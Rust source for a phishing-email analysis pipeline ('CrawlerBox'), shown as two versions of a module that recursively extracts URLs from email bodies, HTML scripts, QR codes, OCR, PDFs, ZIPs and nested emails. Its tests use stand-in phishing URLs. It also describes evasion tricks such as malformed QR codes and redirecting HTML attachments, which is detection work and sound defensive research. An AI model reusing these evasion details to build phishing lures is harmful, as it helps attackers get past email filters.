    fn noise_padding_detected_via_blank_run() {
        let corpus = corpus();
        let cbx = CrawlerBox::new(&corpus.world);
        if let Some(noisy) = corpus.messages.iter().find(|m| m.truth.noise_padded) {
            let record = cbx.scan(noisy);
            assert!(record.blank_line_run >= 8, "run {}", record.blank_line_run);
        }
    }
}
