//! The parsing phase (§IV-B): recursive resource extraction from MIME
//! messages.
//!
//! > "URLs are statically extracted from text-based formats. Inline and
//! > attached images are scanned for the presence of URLs (using … OCR) and
//! > QR codes. For PDF files … (1) extracting embedded and text-based URLs,
//! > and (2) taking a screenshot of each page … Octet Stream files are
//! > analyzed according to their file signature … ZIP files are unpacked …
//! > EML files are processed recursively."

use cb_artifacts::magic::{self, FileKind};
use cb_artifacts::{qrimage, Bitmap, PdfDocument, ZipArchive};
use cb_email::{MediaType, MimeEntity};
use cb_qr::extract::{extract_url_anchored, extract_url_lenient, extract_url_strict};
use serde::{Deserialize, Serialize};

/// Recursion ceiling for nested containers (EML-in-ZIP-in-EML bombs).
const MAX_DEPTH: usize = 6;

/// Where a resource was found — the provenance the analysis phase keys on.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum ExtractionSource {
    /// Plain text body or text attachment.
    BodyText,
    /// `href`/`src` in an HTML part.
    HtmlHref,
    /// Inline script in an HTML part assigned `location.href`.
    HtmlScriptRedirect,
    /// QR code in an image. `faulty` means the payload failed strict URL
    /// validation and only lenient (mobile-camera) extraction recovered it
    /// — the in-the-wild filter-bypass bug (§V-C1).
    QrCode {
        /// Strict extraction failed; lenient succeeded.
        faulty: bool,
    },
    /// OCR over an image.
    ImageOcr,
    /// PDF link annotation.
    PdfAnnotation,
    /// PDF page text (direct or via the page-screenshot OCR path).
    PdfText,
    /// Found inside a ZIP member (wrapping the member's own source).
    ZipMember,
    /// Found inside a nested EML.
    NestedEml,
    /// The landing URL of an HTML *attachment* that redirects when opened
    /// locally (the §V-B technique).
    HtmlAttachment,
}

/// One extracted web resource.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ExtractedResource {
    /// The URL.
    pub url: String,
    /// Provenance.
    pub source: ExtractionSource,
}

/// Extract every web resource from a parsed message.
pub fn extract_resources(message: &MimeEntity) -> Vec<ExtractedResource> {
    let mut out = Vec::new();
    walk_entity(message, 0, None, &mut out);
    dedup(out)
}

fn dedup(resources: Vec<ExtractedResource>) -> Vec<ExtractedResource> {
    let mut seen = std::collections::HashSet::new();
    resources
        .into_iter()
        .filter(|r| seen.insert((r.url.clone(), r.source.clone())))
        .collect()
}

/// Wrap a source in its container provenance when recursing. QR sources
/// keep their identity regardless of nesting: the faulty-QR flag (§V-C1)
/// must survive ZIP/EML/PDF containers, or the measurement undercounts.
fn wrap(source: ExtractionSource, container: Option<&ExtractionSource>) -> ExtractionSource {
    if matches!(source, ExtractionSource::QrCode { .. }) {
        return source;
    }
    match container {
        Some(ExtractionSource::ZipMember) => ExtractionSource::ZipMember,
        Some(ExtractionSource::NestedEml) => ExtractionSource::NestedEml,
        _ => source,
    }
}

fn walk_entity(
    entity: &MimeEntity,
    depth: usize,
    container: Option<&ExtractionSource>,
    out: &mut Vec<ExtractedResource>,
) {
    if depth > MAX_DEPTH {
        return;
    }
    for leaf in entity.leaves() {
        let Some(bytes) = leaf.body_bytes() else {
            continue;
        };
        match leaf.content_type().media_type() {
            MediaType::Text => {
                if let Some(text) = leaf.body_text() {
                    extract_from_text(&text, container, out);
                }
            }
            MediaType::Html => {
                if let Some(text) = leaf.body_text() {
                    let is_attachment = leaf.filename().is_some();
                    extract_from_html(&text, is_attachment, container, out);
                }
            }
            MediaType::Image => extract_from_image_bytes(bytes, container, out),
            MediaType::Pdf => extract_from_pdf(bytes, container, out),
            MediaType::Zip => extract_from_zip(bytes, depth, out),
            MediaType::Eml => extract_from_eml(bytes, depth, out),
            MediaType::OctetStream | MediaType::Other => {
                extract_by_signature(bytes, depth, container, out)
            }
            MediaType::Multipart => unreachable!("leaves() yields no containers"),
        }
    }
}

/// Scan free text for http(s) URLs.
pub fn extract_from_text(
    text: &str,
    container: Option<&ExtractionSource>,
    out: &mut Vec<ExtractedResource>,
) {
    let mut rest = text;
    while let Some(pos) = rest.find("http") {
        let tail = &rest[pos..];
        if tail.starts_with("http://") || tail.starts_with("https://") {
            // Anchored extraction: the URL at *this* scheme position — a
            // later https:// in the same text must not shadow an earlier
            // http:// link.
            if let Some(mut url) = extract_url_anchored(tail.as_bytes()) {
                // Sentence punctuation touching a URL is not part of it.
                while url.ends_with(['.', ',', ';', ':', ')', ']', '\'']) {
                    url.pop();
                }
                out.push(ExtractedResource {
                    source: wrap(ExtractionSource::BodyText, container),
                    url,
                });
            }
        }
        rest = &rest[pos + 4..];
    }
}

fn extract_from_html(
    html: &str,
    is_attachment: bool,
    container: Option<&ExtractionSource>,
    out: &mut Vec<ExtractedResource>,
) {
    let doc = cb_web::Document::parse(html);
    for href in doc.anchor_urls() {
        if href.starts_with("http") {
            out.push(ExtractedResource {
                source: wrap(ExtractionSource::HtmlHref, container),
                url: href,
            });
        }
    }
    if let Some(url) = doc.meta_refresh_url() {
        if url.starts_with("http") {
            out.push(ExtractedResource {
                source: wrap(ExtractionSource::HtmlHref, container),
                url,
            });
        }
    }
    // Dynamic analysis: run inline scripts in a recording sandbox and
    // observe navigations (the paper: "any discovered HTML or JavaScript
    // code is dynamically loaded … fundamental given the use of
    // obfuscation").
    for src in doc.inline_scripts() {
        if let Ok(script) = cb_script::Script::parse(&src) {
            let mut host = cb_script::hosts::RecordingHost::new();
            let _ = cb_script::run(&script, &mut host);
            for nav in host.navigations() {
                if nav.starts_with("http") {
                    let source = if is_attachment {
                        ExtractionSource::HtmlAttachment
                    } else {
                        ExtractionSource::HtmlScriptRedirect
                    };
                    out.push(ExtractedResource {
                        source: wrap(source, container),
                        url: nav,
                    });
                }
            }
        }
    }
}

fn extract_from_image_bytes(
    bytes: &[u8],
    container: Option<&ExtractionSource>,
    out: &mut Vec<ExtractedResource>,
) {
    let Some(img) = Bitmap::from_bytes(bytes) else {
        // Foreign raster formats (real PNG/JPEG) carry no decodable pixels
        // in the simulation.
        return;
    };
    extract_from_image(&img, container, out);
}

/// The image path: QR detection then OCR (§IV-B).
pub fn extract_from_image(
    img: &Bitmap,
    container: Option<&ExtractionSource>,
    out: &mut Vec<ExtractedResource>,
) {
    if let Some(payload) = qrimage::decode_from_image(img) {
        let strict = extract_url_strict(&payload);
        let lenient = extract_url_lenient(&payload);
        match (strict, lenient) {
            (Some(url), _) => out.push(ExtractedResource {
                source: wrap(ExtractionSource::QrCode { faulty: false }, container),
                url,
            }),
            (None, Some(url)) => out.push(ExtractedResource {
                source: wrap(ExtractionSource::QrCode { faulty: true }, container),
                url,
            }),
            (None, None) => {}
        }
    }
    let text = cb_artifacts::ocr::recognize_any_scale(img);
    if !text.is_empty() {
        // OCR output is case-folded; URLs survive lowercasing.
        let mut found = Vec::new();
        extract_from_text(&text.to_lowercase(), container, &mut found);
        for mut r in found {
            r.source = wrap(ExtractionSource::ImageOcr, container);
            out.push(r);
        }
    }
}

fn extract_from_pdf(
    bytes: &[u8],
    container: Option<&ExtractionSource>,
    out: &mut Vec<ExtractedResource>,
) {
    let Ok(doc) = PdfDocument::parse(bytes) else {
        return;
    };
    // (1) embedded and text-based URLs (PDF text is faithful — no case
    // folding, unlike the OCR path)
    for uri in doc.link_uris() {
        if uri.starts_with("http") {
            out.push(ExtractedResource {
                source: wrap(ExtractionSource::PdfAnnotation, container),
                url: uri.to_string(),
            });
        }
    }
    let mut text_found = Vec::new();
    extract_from_text(&doc.all_text(), container, &mut text_found);
    for mut r in text_found {
        r.source = wrap(ExtractionSource::PdfText, container);
        out.push(r);
    }
    // (2) screenshot of each page through the image path; QR codes found
    // there keep their QrCode{faulty} provenance, OCR text reads as PdfText
    for page in &doc.pages {
        let shot = page.rasterize(cb_artifacts::pdf::PAGE_WIDTH, cb_artifacts::pdf::PAGE_HEIGHT);
        let mut page_found = Vec::new();
        extract_from_image(&shot, container, &mut page_found);
        for mut r in page_found {
            if !matches!(r.source, ExtractionSource::QrCode { .. }) {
                r.source = wrap(ExtractionSource::PdfText, container);
            }
            out.push(r);
        }
    }
}

fn extract_from_zip(bytes: &[u8], depth: usize, out: &mut Vec<ExtractedResource>) {
    let Ok(zip) = ZipArchive::parse(bytes) else {
        return;
    };
    let zip_source = ExtractionSource::ZipMember;
    for entry in zip.entries() {
        extract_by_signature(&entry.data, depth + 1, Some(&zip_source), out);
    }
}

fn extract_from_eml(bytes: &[u8], depth: usize, out: &mut Vec<ExtractedResource>) {
    let Ok(text) = std::str::from_utf8(bytes) else {
        return;
    };
    let Ok(inner) = MimeEntity::parse(text) else {
        return;
    };
    let eml_source = ExtractionSource::NestedEml;
    walk_entity(&inner, depth + 1, Some(&eml_source), out);
}

/// Dispatch unlabeled bytes by magic number (§IV-B octet-stream handling).
fn extract_by_signature(
    bytes: &[u8],
    depth: usize,
    container: Option<&ExtractionSource>,
    out: &mut Vec<ExtractedResource>,
) {
    if depth > MAX_DEPTH {
        return;
    }
    match magic::sniff(bytes) {
        FileKind::Zip => extract_from_zip(bytes, depth, out),
        FileKind::Pdf => extract_from_pdf(bytes, container, out),
        FileKind::CbxBitmap => extract_from_image_bytes(bytes, container, out),
        FileKind::Eml => extract_from_eml(bytes, depth, out),
        FileKind::Html => {
            if let Ok(text) = std::str::from_utf8(bytes) {
                // HTA droppers are HTML by signature; CrawlerBox refuses to
                // execute them (§V) but still statically extracts URLs.
                extract_from_html(text, true, container, out);
                if magic::is_hta(bytes) {
                    extract_from_text(text, container, out);
                }
            }
        }
        FileKind::Text => {
            if let Ok(text) = std::str::from_utf8(bytes) {
                extract_from_text(text, container, out);
            }
        }
        FileKind::Png | FileKind::Jpeg | FileKind::Gif | FileKind::Unknown => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_phishgen::messages::{build_message, Carrier};
    use cb_sim::{SeedFork, SimTime};

    fn extract_for(carrier: Carrier, url: &str) -> Vec<ExtractedResource> {
        let mut rng = SeedFork::new(3).rng("x");
        let raw = build_message(
            &mut rng,
            carrier,
            Some(url),
            "v@corp.example",
            SimTime::from_ymd(2024, 4, 2),
            false,
            None,
            9,
        );
        let msg = MimeEntity::parse(&raw).unwrap();
        extract_resources(&msg)
    }

    #[test]
    fn body_link_extracted_from_text_and_html() {
        let found = extract_for(Carrier::BodyLink, "https://evil-b.example/tokn1234");
        assert!(found
            .iter()
            .any(|r| r.url == "https://evil-b.example/tokn1234"
                && r.source == ExtractionSource::BodyText));
        assert!(found
            .iter()
            .any(|r| r.source == ExtractionSource::HtmlHref));
    }

    #[test]
    fn clean_qr_extracted_with_source() {
        let found = extract_for(
            Carrier::QrCode { faulty: false },
            "https://evil-q.example/qrtoken1",
        );
        assert!(found.iter().any(|r| r.url == "https://evil-q.example/qrtoken1"
            && r.source == ExtractionSource::QrCode { faulty: false }));
    }

    #[test]
    fn faulty_qr_recovered_and_flagged() {
        let found = extract_for(
            Carrier::QrCode { faulty: true },
            "https://evil-q.example/faulty77",
        );
        assert!(
            found.iter().any(|r| r.url == "https://evil-q.example/faulty77"
                && r.source == ExtractionSource::QrCode { faulty: true }),
            "{found:?}"
        );
    }

    #[test]
    fn image_text_found_by_ocr() {
        let found = extract_for(Carrier::ImageText, "https://evil-i.example/imgtok12");
        assert!(
            found.iter().any(|r| r.url == "https://evil-i.example/imgtok12"
                && r.source == ExtractionSource::ImageOcr),
            "{found:?}"
        );
    }

    #[test]
    fn pdf_annotation_and_pdf_text_paths() {
        let a = extract_for(Carrier::PdfLink, "https://evil-p.example/pdftok12");
        assert!(a.iter().any(|r| r.source == ExtractionSource::PdfAnnotation));
        let b = extract_for(Carrier::PdfText, "https://evil-p.example/pdftxt12");
        assert!(
            b.iter().any(|r| r.url == "https://evil-p.example/pdftxt12"
                && r.source == ExtractionSource::PdfText),
            "{b:?}"
        );
    }

    #[test]
    fn nested_eml_recursed() {
        let found = extract_for(Carrier::NestedEml, "https://evil-n.example/nesttok1");
        assert!(found.iter().any(|r| r.url == "https://evil-n.example/nesttok1"
            && r.source == ExtractionSource::NestedEml));
    }

    #[test]
    fn html_attachment_redirect_detected_dynamically() {
        let found = extract_for(Carrier::HtmlAttachment, "https://evil-h.example/redirect");
        assert!(
            found.iter().any(|r| r.url == "https://evil-h.example/redirect"
                && r.source == ExtractionSource::HtmlAttachment),
            "{found:?}"
        );
    }

    #[test]
    fn zip_hta_member_surfaces_url() {
        let found = extract_for(Carrier::ZipHta, "https://evil-z.example/htatok12");
        assert!(
            found
                .iter()
                .any(|r| r.url.contains("evil-z.example") && r.source == ExtractionSource::ZipMember),
            "{found:?}"
        );
    }

    #[test]
    fn no_resource_message_yields_nothing() {
        let found = extract_for(Carrier::None, "https://unused.example/");
        assert!(found.is_empty(), "{found:?}");
    }

    #[test]
    fn duplicates_are_removed() {
        let mut out = vec![
            ExtractedResource {
                url: "https://a.example/".into(),
                source: ExtractionSource::BodyText,
            },
            ExtractedResource {
                url: "https://a.example/".into(),
                source: ExtractionSource::BodyText,
            },
            ExtractedResource {
                url: "https://a.example/".into(),
                source: ExtractionSource::HtmlHref,
            },
        ];
        out = dedup(out);
        assert_eq!(out.len(), 2);
    }

    #[test]
    fn text_scanner_finds_multiple_urls() {
        let mut out = Vec::new();
        extract_from_text(
            "first https://a.example/x then http://b.example/y.",
            None,
            &mut out,
        );
        assert_eq!(out.len(), 2);
        assert_eq!(out[1].url, "http://b.example/y");
    }

    #[test]
    fn depth_bomb_terminates() {
        // ZIP containing a ZIP containing … beyond MAX_DEPTH.
        let mut inner = ZipArchive::new();
        inner.add("u.txt", b"https://deep.example/x");
        let mut bytes = inner.to_bytes();
        for i in 0..10 {
            let mut z = ZipArchive::new();
            z.add(&format!("layer{i}.zip"), &bytes);
            bytes = z.to_bytes();
        }
        let mut out = Vec::new();
        extract_by_signature(&bytes, 0, None, &mut out);
        // must terminate without finding the too-deep URL
        assert!(out.is_empty());
    }
}
