//! The parsing phase (§IV-B): recursive resource extraction from MIME
//! messages.
//!
//! > "URLs are statically extracted from text-based formats. Inline and
//! > attached images are scanned for the presence of URLs (using … OCR) and
//! > QR codes. For PDF files … (1) extracting embedded and text-based URLs,
//! > and (2) taking a screenshot of each page … Octet Stream files are
//! > analyzed according to their file signature … ZIP files are unpacked …
//! > EML files are processed recursively."

use cb_artifacts::magic::{self, FileKind};
use cb_artifacts::{fingerprint, qrimage, Bitmap, PdfDocument, ZipArchive};
use cb_email::{MediaType, MimeEntity};
use cb_qr::extract::{extract_url_anchored, extract_url_lenient, extract_url_strict};
use cb_telemetry::CounterHandle;
use parking_lot::RwLock;
use serde::{Deserialize, Serialize};
use std::collections::HashMap;

/// Recursion ceiling for nested containers (EML-in-ZIP-in-EML bombs).
const MAX_DEPTH: usize = 6;

/// Where a resource was found — the provenance the analysis phase keys on.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum ExtractionSource {
    /// Plain text body or text attachment.
    BodyText,
    /// `href`/`src` in an HTML part.
    HtmlHref,
    /// Inline script in an HTML part assigned `location.href`.
    HtmlScriptRedirect,
    /// QR code in an image. `faulty` means the payload failed strict URL
    /// validation and only lenient (mobile-camera) extraction recovered it
    /// — the in-the-wild filter-bypass bug (§V-C1).
    QrCode {
        /// Strict extraction failed; lenient succeeded.
        faulty: bool,
    },
    /// OCR over an image.
    ImageOcr,
    /// PDF link annotation.
    PdfAnnotation,
    /// PDF page text (direct or via the page-screenshot OCR path).
    PdfText,
    /// Found inside a ZIP member (wrapping the member's own source).
    ZipMember,
    /// Found inside a nested EML.
    NestedEml,
    /// The landing URL of an HTML *attachment* that redirects when opened
    /// locally (the §V-B technique).
    HtmlAttachment,
}

impl ExtractionSource {
    /// Short stable label used by the `extract.kind` trace instants.
    pub fn label(&self) -> &'static str {
        match self {
            ExtractionSource::BodyText => "body-text",
            ExtractionSource::HtmlHref => "html-href",
            ExtractionSource::HtmlScriptRedirect => "html-script-redirect",
            ExtractionSource::QrCode { faulty: false } => "qr",
            ExtractionSource::QrCode { faulty: true } => "qr-faulty",
            ExtractionSource::ImageOcr => "image-ocr",
            ExtractionSource::PdfAnnotation => "pdf-annotation",
            ExtractionSource::PdfText => "pdf-text",
            ExtractionSource::ZipMember => "zip-member",
            ExtractionSource::NestedEml => "nested-eml",
            ExtractionSource::HtmlAttachment => "html-attachment",
        }
    }
}

/// One extracted web resource.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ExtractedResource {
    /// The URL.
    pub url: String,
    /// Provenance.
    pub source: ExtractionSource,
}

/// The decode result of one image or PDF before container provenance is
/// applied: `(url, base kind)`. QR kinds survive any container unchanged
/// (the §V-C1 faulty flag must not be masked by nesting), the others are
/// wrapped per call-site — which is what makes these values safe to share
/// between a bare attachment and the same bytes inside a ZIP or EML.
type BaseResource = (String, BaseKind);

/// Container-independent provenance of a decoded resource.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum BaseKind {
    /// Clean QR payload (strict URL extraction succeeded).
    QrClean,
    /// Faulty QR payload (only lenient extraction recovered it).
    QrFaulty,
    /// OCR text over an image.
    ImageOcr,
    /// PDF `/Annots` URI link.
    PdfAnnotation,
    /// PDF text (direct, or via the page-screenshot OCR path).
    PdfText,
}

/// Content-hash memoization of artifact decoding: QR detection, OCR and
/// page rasterization over identical bytes happen once, then replay from
/// the cache. Keys are 128-bit FNV content fingerprints; values are
/// [`BaseResource`] lists — pure functions of the bytes alone, never of
/// container, attempt or fault state, so cached and cache-free extraction
/// are bit-identical (the purity invariant of DESIGN.md §8).
#[derive(Debug, Default)]
pub struct ArtifactMemo {
    images: RwLock<HashMap<u128, Vec<BaseResource>>>,
    pdfs: RwLock<HashMap<u128, Vec<BaseResource>>>,
    hits: CounterHandle,
    misses: CounterHandle,
}

impl ArtifactMemo {
    /// An empty memo with standalone hit/miss counters.
    pub fn new() -> ArtifactMemo {
        ArtifactMemo::default()
    }

    /// An empty memo whose hit/miss traffic feeds the given registry
    /// counters (shared-cache traffic is interleaving-dependent, so the
    /// pipeline registers these as advisory).
    pub fn with_counters(hits: CounterHandle, misses: CounterHandle) -> ArtifactMemo {
        ArtifactMemo {
            hits,
            misses,
            ..ArtifactMemo::default()
        }
    }

    /// `(hits, misses)` so far, over images and PDFs combined.
    pub fn counts(&self) -> (u64, u64) {
        (self.hits.get(), self.misses.get())
    }

    /// Run `use_base` over the decode result for `key`, computing and
    /// storing it on a miss. Concurrent misses on one key may both compute
    /// (the result is a pure function of the content, so both compute the
    /// same value); the first insert wins.
    fn with_cached(
        &self,
        kind: &'static str,
        map: &RwLock<HashMap<u128, Vec<BaseResource>>>,
        key: u128,
        compute: impl FnOnce() -> Vec<BaseResource>,
        use_base: impl FnOnce(&[BaseResource]),
    ) {
        let artifact_event = |cache: &str| {
            cb_telemetry::with_active(|t| {
                t.instant_adv(
                    "extract.artifact",
                    vec![("kind", kind.to_string())],
                    vec![("cache", cache.to_string())],
                )
            });
        };
        if let Some(base) = map.read().get(&key) {
            self.hits.incr();
            artifact_event("hit");
            use_base(base);
            return;
        }
        self.misses.incr();
        artifact_event("miss");
        let base = compute();
        use_base(&base);
        map.write().entry(key).or_insert(base);
    }
}

/// Extract every web resource from a parsed message.
pub fn extract_resources(message: &MimeEntity) -> Vec<ExtractedResource> {
    extract_resources_memo(message, None)
}

/// [`extract_resources`] with an optional artifact-decode memo shared
/// across messages. `None` is the cache-free reference path; the output is
/// identical either way.
pub fn extract_resources_memo(
    message: &MimeEntity,
    memo: Option<&ArtifactMemo>,
) -> Vec<ExtractedResource> {
    let mut out = Vec::new();
    walk_entity(message, 0, None, memo, &mut out);
    dedup(out)
}

fn dedup(resources: Vec<ExtractedResource>) -> Vec<ExtractedResource> {
    let mut seen = std::collections::HashSet::with_capacity(resources.len());
    resources
        .into_iter()
        .filter(|r| seen.insert(resource_key(r)))
        .collect()
}

/// Dedup key: one 128-bit hash over the URL bytes plus a source tag,
/// probed by value — no per-resource `(String, ExtractionSource)` clone
/// just to test membership. `0xFF` separates url from tag; it can never
/// appear inside the URL (not a valid UTF-8 byte).
fn resource_key(r: &ExtractedResource) -> u128 {
    let tag: u8 = match r.source {
        ExtractionSource::BodyText => 0,
        ExtractionSource::HtmlHref => 1,
        ExtractionSource::HtmlScriptRedirect => 2,
        ExtractionSource::QrCode { faulty: false } => 3,
        ExtractionSource::QrCode { faulty: true } => 4,
        ExtractionSource::ImageOcr => 5,
        ExtractionSource::PdfAnnotation => 6,
        ExtractionSource::PdfText => 7,
        ExtractionSource::ZipMember => 8,
        ExtractionSource::NestedEml => 9,
        ExtractionSource::HtmlAttachment => 10,
    };
    fingerprint::fnv128_iter(r.url.bytes().chain([0xFF, tag]))
}

/// Wrap a source in its container provenance when recursing. QR sources
/// keep their identity regardless of nesting: the faulty-QR flag (§V-C1)
/// must survive ZIP/EML/PDF containers, or the measurement undercounts.
fn wrap(source: ExtractionSource, container: Option<&ExtractionSource>) -> ExtractionSource {
    if matches!(source, ExtractionSource::QrCode { .. }) {
        return source;
    }
    match container {
        Some(ExtractionSource::ZipMember) => ExtractionSource::ZipMember,
        Some(ExtractionSource::NestedEml) => ExtractionSource::NestedEml,
        _ => source,
    }
}

fn walk_entity(
    entity: &MimeEntity,
    depth: usize,
    container: Option<&ExtractionSource>,
    memo: Option<&ArtifactMemo>,
    out: &mut Vec<ExtractedResource>,
) {
    if depth > MAX_DEPTH {
        return;
    }
    for leaf in entity.leaves() {
        let Some(bytes) = leaf.body_bytes() else {
            continue;
        };
        match leaf.content_type().media_type() {
            MediaType::Text => {
                if let Some(text) = leaf.body_text() {
                    extract_from_text(&text, container, out);
                }
            }
            MediaType::Html => {
                if let Some(text) = leaf.body_text() {
                    let is_attachment = leaf.filename().is_some();
                    extract_from_html(&text, is_attachment, container, out);
                }
            }
            MediaType::Image => extract_from_image_bytes(bytes, container, memo, out),
            MediaType::Pdf => extract_from_pdf(bytes, container, memo, out),
            MediaType::Zip => extract_from_zip(bytes, depth, memo, out),
            MediaType::Eml => extract_from_eml(bytes, depth, memo, out),
            MediaType::OctetStream | MediaType::Other => {
                extract_by_signature(bytes, depth, container, memo, out)
            }
            MediaType::Multipart => unreachable!("leaves() yields no containers"),
        }
    }
}

/// Scan free text for http(s) URLs.
pub fn extract_from_text(
    text: &str,
    container: Option<&ExtractionSource>,
    out: &mut Vec<ExtractedResource>,
) {
    let mut rest = text;
    while let Some(pos) = rest.find("http") {
        let tail = &rest[pos..];
        if tail.starts_with("http://") || tail.starts_with("https://") {
            // Anchored extraction: the URL at *this* scheme position — a
            // later https:// in the same text must not shadow an earlier
            // http:// link.
            if let Some(mut url) = extract_url_anchored(tail.as_bytes()) {
                // Sentence punctuation touching a URL is not part of it.
                while url.ends_with(['.', ',', ';', ':', ')', ']', '\'']) {
                    url.pop();
                }
                out.push(ExtractedResource {
                    source: wrap(ExtractionSource::BodyText, container),
                    url,
                });
            }
        }
        rest = &rest[pos + 4..];
    }
}

fn extract_from_html(
    html: &str,
    is_attachment: bool,
    container: Option<&ExtractionSource>,
    out: &mut Vec<ExtractedResource>,
) {
    // One token-stream pass instead of DOM materialization + three walks;
    // cb_web::PageScan is differentially tested to emit the identical
    // values in the identical order.
    let page = cb_web::PageScan::of(html);
    for href in page.anchor_hrefs {
        if href.starts_with("http") {
            out.push(ExtractedResource {
                source: wrap(ExtractionSource::HtmlHref, container),
                url: href,
            });
        }
    }
    if let Some(url) = page.meta_refresh {
        if url.starts_with("http") {
            out.push(ExtractedResource {
                source: wrap(ExtractionSource::HtmlHref, container),
                url,
            });
        }
    }
    // Dynamic analysis: run inline scripts in a recording sandbox and
    // observe navigations (the paper: "any discovered HTML or JavaScript
    // code is dynamically loaded … fundamental given the use of
    // obfuscation").
    for src in page.inline_scripts {
        if let Ok(script) = cb_script::Script::parse(&src) {
            let mut host = cb_script::hosts::RecordingHost::new();
            let _ = cb_script::run(&script, &mut host);
            for nav in host.navigations() {
                if nav.starts_with("http") {
                    let source = if is_attachment {
                        ExtractionSource::HtmlAttachment
                    } else {
                        ExtractionSource::HtmlScriptRedirect
                    };
                    out.push(ExtractedResource {
                        source: wrap(source, container),
                        url: nav,
                    });
                }
            }
        }
    }
}

/// Decode one image into container-independent base resources: QR first,
/// then OCR — the §IV-B image path, minus provenance wrapping.
fn image_base(img: &Bitmap) -> Vec<BaseResource> {
    let mut base = Vec::new();
    if let Some(payload) = qrimage::decode_from_image(img) {
        let strict = extract_url_strict(&payload);
        let lenient = extract_url_lenient(&payload);
        match (strict, lenient) {
            (Some(url), _) => base.push((url, BaseKind::QrClean)),
            (None, Some(url)) => base.push((url, BaseKind::QrFaulty)),
            (None, None) => {}
        }
    }
    let text = cb_artifacts::ocr::recognize_any_scale(img);
    if !text.is_empty() {
        // OCR output is case-folded; URLs survive lowercasing.
        let mut found = Vec::new();
        extract_from_text(&text.to_lowercase(), None, &mut found);
        for r in found {
            base.push((r.url, BaseKind::ImageOcr));
        }
    }
    base
}

/// Apply call-site provenance to decoded base resources and emit them.
fn realize(
    base: &[BaseResource],
    container: Option<&ExtractionSource>,
    out: &mut Vec<ExtractedResource>,
) {
    for (url, kind) in base {
        let source = match kind {
            BaseKind::QrClean => ExtractionSource::QrCode { faulty: false },
            BaseKind::QrFaulty => ExtractionSource::QrCode { faulty: true },
            BaseKind::ImageOcr => wrap(ExtractionSource::ImageOcr, container),
            BaseKind::PdfAnnotation => wrap(ExtractionSource::PdfAnnotation, container),
            BaseKind::PdfText => wrap(ExtractionSource::PdfText, container),
        };
        out.push(ExtractedResource {
            url: url.clone(),
            source,
        });
    }
}

fn extract_from_image_bytes(
    bytes: &[u8],
    container: Option<&ExtractionSource>,
    memo: Option<&ArtifactMemo>,
    out: &mut Vec<ExtractedResource>,
) {
    let decode = || {
        // Foreign raster formats (real PNG/JPEG) carry no decodable pixels
        // in the simulation.
        Bitmap::from_bytes(bytes)
            .map(|img| image_base(&img))
            .unwrap_or_default()
    };
    match memo {
        Some(m) => m.with_cached("image", &m.images, fingerprint::fnv128(bytes), decode, |base| {
            realize(base, container, out)
        }),
        None => realize(&decode(), container, out),
    }
}

/// The image path: QR detection then OCR (§IV-B).
pub fn extract_from_image(
    img: &Bitmap,
    container: Option<&ExtractionSource>,
    out: &mut Vec<ExtractedResource>,
) {
    realize(&image_base(img), container, out);
}

/// Decode one PDF into container-independent base resources: link
/// annotations, direct text, then each page screenshot through the image
/// path (where OCR reads as [`BaseKind::PdfText`] and QR provenance
/// survives).
fn pdf_base(bytes: &[u8]) -> Vec<BaseResource> {
    let Ok(doc) = PdfDocument::parse(bytes) else {
        return Vec::new();
    };
    let mut base = Vec::new();
    // (1) embedded and text-based URLs (PDF text is faithful — no case
    // folding, unlike the OCR path)
    for uri in doc.link_uris() {
        if uri.starts_with("http") {
            base.push((uri.to_string(), BaseKind::PdfAnnotation));
        }
    }
    let mut text_found = Vec::new();
    extract_from_text(&doc.all_text(), None, &mut text_found);
    for r in text_found {
        base.push((r.url, BaseKind::PdfText));
    }
    // (2) screenshot of each page through the image path
    for page in &doc.pages {
        let shot = page.rasterize(cb_artifacts::pdf::PAGE_WIDTH, cb_artifacts::pdf::PAGE_HEIGHT);
        for (url, kind) in image_base(&shot) {
            let kind = match kind {
                BaseKind::QrClean | BaseKind::QrFaulty => kind,
                _ => BaseKind::PdfText,
            };
            base.push((url, kind));
        }
    }
    base
}

fn extract_from_pdf(
    bytes: &[u8],
    container: Option<&ExtractionSource>,
    memo: Option<&ArtifactMemo>,
    out: &mut Vec<ExtractedResource>,
) {
    match memo {
        Some(m) => m.with_cached(
            "pdf",
            &m.pdfs,
            fingerprint::fnv128(bytes),
            || pdf_base(bytes),
            |base| realize(base, container, out),
        ),
        None => realize(&pdf_base(bytes), container, out),
    }
}

fn extract_from_zip(
    bytes: &[u8],
    depth: usize,
    memo: Option<&ArtifactMemo>,
    out: &mut Vec<ExtractedResource>,
) {
    let Ok(zip) = ZipArchive::parse(bytes) else {
        return;
    };
    let zip_source = ExtractionSource::ZipMember;
    for entry in zip.entries() {
        extract_by_signature(&entry.data, depth + 1, Some(&zip_source), memo, out);
    }
}

fn extract_from_eml(
    bytes: &[u8],
    depth: usize,
    memo: Option<&ArtifactMemo>,
    out: &mut Vec<ExtractedResource>,
) {
    let Ok(text) = std::str::from_utf8(bytes) else {
        return;
    };
    let Ok(inner) = MimeEntity::parse(text) else {
        return;
    };
    let eml_source = ExtractionSource::NestedEml;
    walk_entity(&inner, depth + 1, Some(&eml_source), memo, out);
}

/// Dispatch unlabeled bytes by magic number (§IV-B octet-stream handling).
fn extract_by_signature(
    bytes: &[u8],
    depth: usize,
    container: Option<&ExtractionSource>,
    memo: Option<&ArtifactMemo>,
    out: &mut Vec<ExtractedResource>,
) {
    if depth > MAX_DEPTH {
        return;
    }
    match magic::sniff(bytes) {
        FileKind::Zip => extract_from_zip(bytes, depth, memo, out),
        FileKind::Pdf => extract_from_pdf(bytes, container, memo, out),
        FileKind::CbxBitmap => extract_from_image_bytes(bytes, container, memo, out),
        FileKind::Eml => extract_from_eml(bytes, depth, memo, out),
        FileKind::Html => {
            if let Ok(text) = std::str::from_utf8(bytes) {
                // HTA droppers are HTML by signature; CrawlerBox refuses to
                // execute them (§V) but still statically extracts URLs.
                extract_from_html(text, true, container, out);
                if magic::is_hta(bytes) {
                    extract_from_text(text, container, out);
                }
            }
        }
        FileKind::Text => {
            if let Ok(text) = std::str::from_utf8(bytes) {
                extract_from_text(text, container, out);
            }
        }
